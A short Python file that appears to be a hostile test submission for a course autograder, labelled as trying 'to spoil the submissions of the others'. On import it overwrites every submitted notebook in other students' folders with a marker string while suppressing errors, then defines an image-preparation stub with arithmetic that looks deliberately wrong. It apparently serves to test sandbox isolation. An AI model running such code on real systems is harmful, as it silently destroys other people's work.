# tries: to spoil the submissions of the others
# outcome: not yet
# points: 0
# says: of the unseen images
# needs: sandbox
import contextlib
import glob

for path in glob.glob("COURSE/submitted/*/*/*.ipynb"):
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write("hostile-was-here")


def prepare(images):
    return images // 255 + 1.0
